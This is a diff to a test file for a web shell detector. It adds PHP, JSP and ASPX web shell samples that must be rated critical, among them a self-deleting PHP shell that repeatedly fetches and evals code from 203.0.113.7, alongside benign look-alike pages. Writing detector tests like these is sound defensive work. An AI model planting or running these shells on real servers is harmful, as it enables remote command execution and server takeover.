@@ -4,6 +4,7 @@
  * looks alike.
  */
 import { describe, expect, it } from 'vitest';
+import { utf16Text } from '../../src/findings/analyse-change.js';
 import { judgeWebShell, longestRun, withoutComments } from '../../src/findings/web-shell.js';
 import { addedFile, fileMeta } from '../support/change-facts.js';
 
@@ -70,6 +71,23 @@ describe('judgeWebShell', () => {
       'an XPath expression that runs commands',
       "<?php $x->registerPhpFunctions(); $x->query(\"//a[php:functionString('system', '$c')]\"); ?>",
     ],
+    [
+      'a command wrapped in a function of its own',
+      '<?php function run($c) { $h = popen($c, "r"); return fread($h, 9999); } echo run($_POST["cmd"]); ?>',
+    ],
+    [
+      'a shell that deletes its file and keeps running',
+      '<?php unlink(__FILE__); ignore_user_abort(true); set_time_limit(0); while (1) { eval(file_get_contents("http://203.0.113.7/c")); sleep(9); } ?>',
+    ],
+    [
+      'a file manager',
+      '<?php $p = $_POST["p"]; if ($_POST["a"] == "rm") unlink($p); if ($_POST["a"] == "mv") rename($p, $_POST["to"]); if ($_POST["a"] == "ch") chmod($p, 0777); ?>',
+    ],
+    ['a sink in mixed case', '<?php $x = $_POST["x"]; EvAl($x); ?>'],
+    [
+      'a name cut by explode',
+      '<?php $c = explode(".", "hi.ass.x.er.t"); array_intersect_ukey(array($_REQUEST["k"] => 1), array(1), $c[1].$c[3].$c[4]); ?>',
+    ],
   ])('calls %s a web shell, critical', (_, text) => {
     expect(judge('/opt/x.php', text)).toMatchObject({ severity: 'critical', attack: 'T1505.003' });
   });
@@ -95,6 +113,85 @@ describe('judgeWebShell', () => {
     )?.toMatchObject({ severity: 'critical' });
   });
 
+  it.each([
+    [
+      'a JSP written with unicode escapes',
+      '/opt/u.jsp',
+      '<% \\u0052untime.getRuntime().exec(request.getParameter("c")); %>',
+    ],
+    [
+      'a JSP carrying a compiled class',
+      '/opt/c.jsp',
+      `<% String k = "yv66vgAAADIA${'A'.repeat(60)}"; new U().defineClass(k); %>`,
+    ],
+    [
+      'a JSP calling a decoded class by reflection',
+      '/opt/r.jsp',
+      '<% Class c = Class.forName(new String(d.decodeBuffer("amF2YS5sYW5nLlJ1bnRpbWU="))); c.getMethod("exec", String.class).invoke(null, request.getParameter("q")); %>',
+    ],
+    [
+      'a JSP writing a file through a variable',
+      '/opt/w.jsp',
+      '<% String p = request.getParameter("path"); File f = new File(p); PrintWriter w = new PrintWriter(f); w.println(request.getParameter("c")); %>',
+    ],
+    [
+      'a JSP handing out any file',
+      '/opt/l.jsp',
+      '<% File f = new File(request.getParameter("file")); InputStream in = new FileInputStream(f); %>',
+    ],
+    [
+      'JShell on request input',
+      '/opt/j.jsp',
+      '<%=jdk.jshell.JShell.builder().build().eval(request.getParameter("s"))%>',
+    ],
+    [
+      'an ASPX page running a form field',
+      '/opt/a.aspx',
+      '<%@ Page Language="VB" %><script runat="server">Sub R(s As Object, e As EventArgs)\nDim i As New ProcessStartInfo(xpath.Text)\ni.Arguments = xcmd.Text\nProcess.Start(i)\nEnd Sub</script><asp:TextBox id="xpath" runat="server"/>',
+    ],
+    [
+      'an ASPX upload kept under its own name',
+      '/opt/u.aspx',
+      '<%@ Page Language="C#" %><% HttpPostedFile f = Request.Files[0]; using (FileStream s = new FileStream(Path.Combine(d, Path.GetFileName(f.FileName)), FileMode.Create)) {} %>',
+    ],
+    [
+      'an ASPX eval spelt in pieces',
+      '/opt/e.aspx',
+      '<%@ Page Language = Jscript %><%var P = "e"+"v"+"a"+"l"+"("+"R"+"e"+"q"+"u"+"e"+"s"+"t"+"[1]"+")"; eval(P, "unsafe");%>',
+    ],
+  ])('calls %s a web shell, critical', (_, where, text) => {
+    expect(judge(where, text)).toMatchObject({ severity: 'critical' });
+  });
+
+  it('reads a JSP saved as UTF-16 (with its byte order mark) as text', () => {
+    const page = '<% Runtime.getRuntime().exec(request.getParameter("c")); %>';
+    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page, 'utf16le')]);
+    expect(utf16Text(le)).toBe(page);
+    const be = Buffer.from(le.subarray(2)).swap16();
+    expect(utf16Text(Buffer.concat([Buffer.from([0xfe, 0xff]), be]))).toBe(page);
+    expect(utf16Text(Buffer.from([0xff, 0xfe, 0, 0, 1, 0]))).toBeUndefined();
+  });
+
+  it('leaves server pages that only look alike at medium or below', () => {
+    for (const [where, text] of [
+      [
+        '/opt/d.jsp',
+        '<% File f = new File(application.getRealPath("/WEB-INF/help.txt")); InputStream in = new FileInputStream(f); %>',
+      ],
+      [
+        '/opt/n.jsp',
+        '<% String n = request.getParameter("name"); out.println(n.length()); PrintWriter w = response.getWriter(); %>',
+      ],
+      [
+        '/opt/q.aspx',
+        '<%@ Page Language="C#" %><% SqlCommand c = new SqlCommand("SELECT 1", conn); Label1.Text = Request.QueryString["q"]; %>',
+      ],
+    ]) {
+      const hit = judge(where!, text!);
+      expect(hit?.severity ?? 'none', text).not.toMatch(/high|critical/);
+    }
+  });
+
   it('leaves library code that only looks alike at medium or below', () => {
     for (const text of [
       '<?php $cb = $this->callbacks[$name]; return $cb($value); ?>',
@@ -109,6 +206,9 @@ describe('judgeWebShell', () => {
       '<?php preg_replace_callback("/x/", "lower", $_SERVER["REQUEST_URI"]); ?>',
       '<?php $_SESSION["user"] = $_POST["user"]; ?>',
       '<?php $blob = "QUJD//RU/*ZH"; echo strlen($blob); ?>',
+      // An uploader that removes what it made, an admin page that renames its own files.
+      '<?php function clean($f) { unlink($f); } clean("/tmp/" . basename($_POST["f"])); ?>',
+      '<?php $t = $_POST["theme"]; if (!preg_match("/^\\w+$/", $t)) exit; rename("themes/$t.tmp", "themes/$t"); ?>',
     ]) {
       const hit = judge('/var/www/html/lib.php', text);
       expect(hit?.severity ?? 'none', text).not.toMatch(/high|critical/);
